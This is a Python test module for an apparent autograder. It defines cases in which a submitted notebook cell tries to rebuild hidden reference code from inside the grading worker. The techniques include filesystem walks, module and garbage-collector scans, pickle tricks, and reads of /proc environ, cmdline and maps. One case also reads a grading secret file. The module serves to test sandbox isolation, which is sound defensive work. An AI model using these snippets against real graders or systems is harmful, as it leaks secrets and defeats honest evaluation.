"""The corpus: rebuilding reference code from inside the worker."""

from __future__ import annotations

from grading_corpus.base import (
    LEAK,
    N01,
    REFERENCE_MARKERS,
    RELU0,
    WALK,
    Case,
    code,
    index_of,
    no_leak_marker,
    replace,
)

# ---------------------------------------------------------------------------------------
# 2. Rebuilding reference code from inside the worker
# ---------------------------------------------------------------------------------------



_EXEC_STOLEN = """
_stolen = {}
def _steal(path, label):
    try:
        with open(path, encoding="utf-8") as stream:
            text = stream.read()
        namespace = {"__name__": "stolen"}
        exec(compile(text, "stolen", "exec"), namespace)
        if callable(namespace.get("relu")):
            _stolen.setdefault("relu", namespace["relu"])
            print(@@LEAK@@, label, path)
    except Exception as error:
        print("no", label, path, type(error).__name__)

def relu(Z):
    if "relu" in _stolen:
        return _stolen["relu"](Z)
    return np.zeros(np.shape(Z))
"""


def _steal(*parts: str) -> str:
    return code(_EXEC_STOLEN, *parts).replace("@@LEAK@@", LEAK)


SCAN_REPORT = """
import gc, sys, types
FOUND = "FOUND"
for name, module in sorted(sys.modules.items()):
    path = str(getattr(module, "__file__", None) or "")
    spec = getattr(module, "__spec__", None)
    origin = str(getattr(spec, "origin", None) or "")
    where = path + " " + origin
    if ("/refimpl/" in where or "/autograder/" in where or "refimpl.py" in where
            or (name.partition(".")[0] in ("refimpl", "autograder")
                and (path or "site-packages" in origin))):
        print(FOUND + "-MODULE", name, where)
print("modules:", len(sys.modules),
      sorted(m for m in sys.modules if m.partition(".")[0] in ("refimpl", "autograder")))
functions = 0
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType):
        functions += 1
        module = str(getattr(obj, "__module__", "") or "")
        filename = obj.__code__.co_filename
        if module.startswith(("refimpl", "autograder")) or "/refimpl/" in filename \\
                or "/autograder/" in filename:
            print(FOUND + "-FUNC", module, obj.__qualname__, filename)
    elif isinstance(obj, type) \\
            and str(getattr(obj, "__module__", "")).startswith(("refimpl", "autograder")):
        print(FOUND + "-CLASS", obj.__module__, obj.__qualname__)
print("functions:", functions)
needle = b"def " + b"backward_231"
scanned = 0
for path in _walk(40):
    try:
        if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > 4 * 2**20:
            continue
        with open(path, "rb") as stream:
            data = stream.read()
    except OSError:
        continue
    scanned += 1
    parts = path.split(os.sep)
    if needle in data or "refimpl" in parts:
        print(FOUND + "-FILE", path)
print("files read:", scanned)
print("SCAN" + "-DONE")

def relu(Z):
    return np.zeros(np.shape(Z))
"""


def _scan_findings(graded) -> None:
    text = graded.cell_text(index_of(graded.nb, "relu"))
    assert "SCAN-DONE" in text, f"the scan did not finish:\n{text[-3000:]}"
    assert "WALK-TRUNCATED" not in text, f"the scan ran out of time:\n{text[-3000:]}"
    found = [line for line in text.splitlines() if line.startswith("FOUND-")]
    assert not found, "reference-like code found inside the worker:\n" + "\n".join(found[:50])
    for marker in REFERENCE_MARKERS:
        assert marker not in graded.all_text(), marker


_PROC_SNOOP = """
import os, re
_paths = set()
def _show(path, limit=3000):
    try:
        with open(path, "rb") as stream:
            data = stream.read(200_000)
    except OSError as error:
        print("no", path, type(error).__name__)
        return
    text = data.replace(b"\\0", b" ").decode("utf-8", "replace")
    print(path, "->", text[:limit])
    _paths.update(re.findall(r"(/[\\w.+-]+(?:/[\\w.+-]+)+)", text))

ppid = os.getppid()
for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/self/mountinfo",
             "/proc/1/cmdline", "/proc/1/environ", f"/proc/{ppid}/cmdline",
             f"/proc/{ppid}/environ", f"/proc/{ppid}/maps", "/proc/self/maps"):
    _show(path)
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for link in ("cwd", "root", "exe"):
        try:
            print(pid, link, os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
candidates = {p for p in _paths if "refimpl" in p or "autograder" in p or "work" in p}
candidates |= {"@@REPO@@/refimpl/activations.py", "/proc/1/root@@REPO@@/refimpl/activations.py",
               f"/proc/{ppid}/root@@REPO@@/refimpl/activations.py",
               f"/proc/{ppid}/cwd/refimpl/activations.py", "/proc/1/cwd/refimpl/activations.py"}
for path in sorted(candidates):
    root = path.split("/refimpl")[0] if "/refimpl" in path else path
    _steal(root.rstrip("/") + "/refimpl/activations.py", "proc")
    try:
        with open("@@COURSE@@/grading_secret") as stream:
            print(@@LEAK@@, "secret", stream.read())
    except OSError:
        pass
"""

TWO = [
    Case("read-refimpl-source-at-checkout-path", "2-rebuild", N01,
         (replace("relu", _steal('_steal("@@REPO@@/refimpl/activations.py", "checkout")')),),
         RELU0, isolation=True, extra=no_leak_marker),
    Case("glob-the-filesystem-for-refimpl", "2-rebuild", N01,
         (replace("relu", _steal(WALK, """
          for path in _walk(15):
              if path.endswith("activations.py") or path.endswith("network.py"):
                  _steal(path, "walk")
          """)),), RELU0, isolation=True, extra=no_leak_marker),
    Case("site-packages-and-pth-files", "2-rebuild", N01,
         (replace("relu", _steal("""
          import glob, os, site, sys
          folders = set(sys.path)
          for getter in (site.getsitepackages, site.getusersitepackages):
              try:
                  found = getter()
                  folders.update([found] if isinstance(found, str) else found)
              except Exception as error:
                  print("no", getter.__name__, type(error).__name__)
          for folder in list(folders):
              for pth in (glob.glob(os.path.join(folder, "*.pth"))
                          + glob.glob(os.path.join(folder, "__editable__*"))):
                  try:
                      text = open(pth).read()
                  except OSError:
                      continue
                  print("pth", pth, text[:300])
                  folders.update(line.strip() for line in text.splitlines() if line.startswith("/"))
                  import re
                  folders.update(re.findall(r"'(/[^']+)'", text))
          for folder in sorted(folders):
              for candidate in (os.path.join(folder, "refimpl", "activations.py"),
                                os.path.join(folder, "activations.py")):
                  if os.path.exists(candidate):
                      _steal(candidate, "site")
          """)),), RELU0, isolation=True, extra=no_leak_marker),
    Case("importlib-find-spec", "2-rebuild", N01,
         (replace("relu", _steal("""
          import importlib.machinery, importlib.util, os, sys
          for name in ("refimpl", "refimpl.activations"):
              try:
                  spec = importlib.util.find_spec(name)
                  print(name, spec, getattr(spec, "origin", None))
              except Exception as error:
                  print("no spec", name, type(error).__name__)
          for finder in [importlib.machinery.PathFinder] + list(sys.meta_path):
              for path in (None, ["@@REPO@@"], sys.path):
                  try:
                      spec = finder.find_spec("refimpl", path)
                  except Exception:
                      continue
                  origin = getattr(spec, "origin", None)
                  if origin and origin.endswith("__init__.py"):
                      _steal(os.path.join(os.path.dirname(origin), "activations.py"), "spec")
                  loader = getattr(spec, "loader", None)
                  try:
                      text = loader.get_source("refimpl.activations")
                      print(@@LEAK@@, "loader source", text[:200])
                  except Exception:
                      pass
          """)),), RELU0, isolation=True, extra=no_leak_marker),
    Case("sys-modules-scan", "2-rebuild", N01,
         (replace("relu", """
          import sys, types
          _found = []
          for name, module in list(sys.modules.items()):
              try:
                  namespace = vars(module)
              except TypeError:
                  continue
              for key, value in list(namespace.items()):
                  if key in ("relu", "_relu", "ACTIVATIONS") \\
                          and getattr(value, "__module__", "") != "__main__":
                      _found.append(value)
                      print("module", name, "has", key, type(value).__name__)
          def relu(Z):
              for f in _found:
                  try:
                      return (f["relu"] if isinstance(f, dict) else f)(Z)
                  except Exception:
                      pass
              return np.zeros(np.shape(Z))
          """),), RELU0),
    Case("gc-scan-for-reference-functions", "2-rebuild", N01,
         (replace("relu", """
          import gc, types
          _found = []
          for obj in gc.get_objects():
              if isinstance(obj, types.FunctionType) and obj.__name__ in ("relu", "_relu") \\
                      and obj.__module__ != "__main__":
                  _found.append(obj)
              elif isinstance(obj, dict) and callable(obj.get("relu")):
                  candidate = obj["relu"]
                  if getattr(candidate, "__module__", "__main__") != "__main__":
                      _found.append(candidate)
          print("candidates:", [(getattr(f, "__module__", "?"),
                                 getattr(getattr(f, "__code__", None), "co_filename", "?"))
                                for f in _found])
          def relu(Z):
              for f in _found:
                  try:
                      return f(Z)
                  except Exception:
                      pass
              return np.zeros(np.shape(Z))
          """),), RELU0),
    Case("inspect-getsource-of-a-stand-in", "2-rebuild", N01,
         (replace("relu", """
          import inspect, textwrap
          _ns = {"np": np}
          for target in (refimpl.relu, type(refimpl.relu), refimpl, type(refimpl)):
              try:
                  text = inspect.getsource(target)
              except Exception as error:
                  print("no source:", type(error).__name__)
                  continue
              print("SOURCE", text[:400])
              try:
                  exec(textwrap.dedent(text), _ns)
              except Exception as error:
                  print("exec failed:", type(error).__name__)
          def relu(Z):
              f = _ns.get("relu")
              return f(Z) if callable(f) else np.zeros(np.shape(Z))
          """),), RELU0),
    Case("pickle-and-marshal-a-stand-in", "2-rebuild", N01,
         (replace("relu", """
          import copy, marshal, pickle, types
          _tries = []
          attempts = {
              "pickle": lambda: pickle.loads(pickle.dumps(refimpl.relu)),
              "deepcopy": lambda: copy.deepcopy(refimpl.relu),
              "reduce": lambda: refimpl.relu.__reduce_ex__(2),
              "code": lambda: marshal.loads(marshal.dumps(refimpl.relu.__code__)),
              "wrapped": lambda: refimpl.relu.__wrapped__,
              "func": lambda: refimpl.relu.__call__.__func__,
          }
          for label, attempt in attempts.items():
              try:
                  _tries.append(attempt())
                  print("got", label, type(_tries[-1]).__name__)
              except Exception as error:
                  print("no", label, type(error).__name__)
          def relu(Z):
              for t in _tries:
                  try:
                      f = types.FunctionType(t, {"np": np}) if isinstance(t, types.CodeType) else t
                      out = f(Z)
                      if isinstance(out, np.ndarray):
                          return out
                  except Exception:
                      pass
              return np.zeros(np.shape(Z))
          """),), RELU0),
    Case("proc-environ-cmdline-and-parent", "2-rebuild", N01,
         (replace("relu", _steal(_PROC_SNOOP)),), RELU0, isolation=True,
         extra=no_leak_marker),
    Case("scan-report-finds-nothing", "2-rebuild", N01,
         (replace("relu", WALK, SCAN_REPORT),), RELU0, isolation=True, extra=_scan_findings,
         cell_seconds=60,
         note="prints every module, function and file that looks like reference code"),
]
